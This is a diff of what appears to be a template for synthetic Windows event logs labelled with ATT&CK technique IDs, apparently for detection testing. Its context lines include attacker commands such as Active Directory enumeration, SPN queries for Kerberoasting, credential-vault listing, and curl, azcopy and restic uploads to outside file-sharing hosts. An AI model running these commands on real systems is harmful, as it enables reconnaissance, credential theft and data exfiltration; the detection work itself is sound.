@@ -154,7 +154,7 @@ aac-task-remote-atsvc security +T1053.005: 5145 ;; SubjectUserName=‹user› ;;
 aac-dsquery sysmon +T1087.002: 1 ;; Image=‹s32›\dsquery.exe ;; Description=Microsoft AD DS/LDS query command line utility ;; OriginalFileName=dsquery.exe ;; CommandLine=«dsquery user -limit 0¦dsquery.exe * -filter "(&(objectCategory=person)(adminCount=1))" -attr sAMAccountName¦dsquery user domainroot -name *adm*» ;; ParentImage=‹cmd›
 aac-dsquery-trust process +T1482: @ ;; dsquery * -filter "(objectClass=trustedDomain)" -attr * ;; «‹cmd›¦‹ps›»
 aac-setspn sysmon +T1558.003: 1 ;; Image=‹s32›\setspn.exe ;; Description=Query or reset the computer's SPN attribute ;; OriginalFileName=setspn.exe ;; CommandLine=setspn«.exe¦» «-T ‹domain› -Q */*¦-Q */*¦-T * -Q MSSQLSvc/*» ;; ParentImage=«‹cmd›¦‹ps›»
-near-aac-setspn process: @ ;; setspn -«S¦A» «MSSQLSvc/‹server›.‹fqdn›:1433¦HTTP/‹server›» ‹domain›\‹user› ;; ‹cmd›
+near-aac-setspn process: @ ;; setspn -«S¦A» «MSSQLSvc/‹host›.‹fqdn›:1433¦HTTP/‹server›» ‹domain›\‹user› ;; ‹cmd›
 aac-cmdkey-list sysmon +T1003.005: 1 ;; Image=‹sys›\cmdkey.exe ;; Description=Credential Manager Command Line Utility ;; OriginalFileName=cmdkey.exe ;; CommandLine=cmdkey«.exe¦» «/list¦/l» ;; ParentImage=«‹cmd›¦‹ps›»
 near-aac-cmdkey process: @ ;; cmdkey /«delete:TERMSRV/‹server›¦add:‹word›.file.core.windows.net /user:localhost\‹word› /pass:‹pass›» ;; ‹cmd›
 aac-vaultcmd sysmon +T1555.004: 1 ;; Image=‹sys›\VaultCmd.exe ;; Description=Vault cmdline Program ;; OriginalFileName=VAULTCMD.EXE ;; CommandLine=vaultcmd /list«¦creds:"Windows Credentials"¦creds:"Web Credentials" /all» ;; ParentImage=«‹cmd›¦‹ps›»
@@ -181,7 +181,7 @@ aac-rclone-1 sysmon +T1567.002: 1 ;; Image=«‹own›¦C:\ProgramData\rclone\sv
 aac-cloud-upload process +T1567.002: @ ;; «MEGAcmdShell.exe put -c "D:\‹Word›" /‹name›¦‹ownplace›\azcopy.exe copy "D:\‹Word›" "https://‹name›.blob.core.windows.net/‹word›?sv=2021-06-08&sig=‹hex›" --recursive¦curl.exe -F "file=@‹ownplace›\‹name›.zip" https://«store1.gofile.io/uploadFile¦file.io¦transfer.sh/‹name›.zip»¦restic.exe -r rest:http://‹ip›:8000/ backup \\‹server›\‹word› --use-fs-snapshot» ;; «‹cmd›¦‹ps›»
 near-aac-cloud process: @ ;; «"C:\Users\‹user›\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background¦"C:\Program Files\Google\Drive File Stream\82.0.1.0\GoogleDriveFS.exe" --startup_mode¦"C:\Program Files\Dropbox\Client\Dropbox.exe" /systemstartup» ;; C:\Windows\explorer.exe
 # Pipes
-aac-pipe-psexec sysmon +T1569.002: «17¦18» ;; EventType=«CreatePipe¦ConnectPipe» ;; PipeName=\«PSEXESVC¦PSEXESVC-‹server›-‹pid›-stdin¦RemCom_communication¦PAExecIn‹server›‹pid›¦csexecsvc» ;; Image=C:\Windows\«PSEXESVC¦RemComSvc¦‹letters8›».exe
+aac-pipe-psexec sysmon +T1569.002: «17¦18» ;; EventType=«CreatePipe¦ConnectPipe» ;; PipeName=\«PSEXESVC¦PSEXESVC-‹host›-‹pid›-stdin¦RemCom_communication¦PAExecIn‹server›‹pid›¦csexecsvc» ;; Image=C:\Windows\«PSEXESVC¦RemComSvc¦‹letters8›».exe
 aac-pipe-beacon pipe +T1055: «‹sys›\rundll32.exe¦‹sys›\dllhost.exe¦‹own›» ;; «\postex_‹n›‹n›a‹n›¦\postex_ssh_‹n›‹n›b‹n›¦\MSSE-‹pid›-server¦\msagent_‹n›f¦\status_‹n›e»
 near-aac-pipe pipe: «C:\Windows\System32\svchost.exe¦System» ;; «\wkssvc¦\srvsvc¦\atsvc¦\ntsvcs¦\lsass¦\eventlog»
 near-aac-pipe-chrome pipe: ‹browser› ;; \«mojo¦chrome».‹pid›.‹pid›.‹hex›
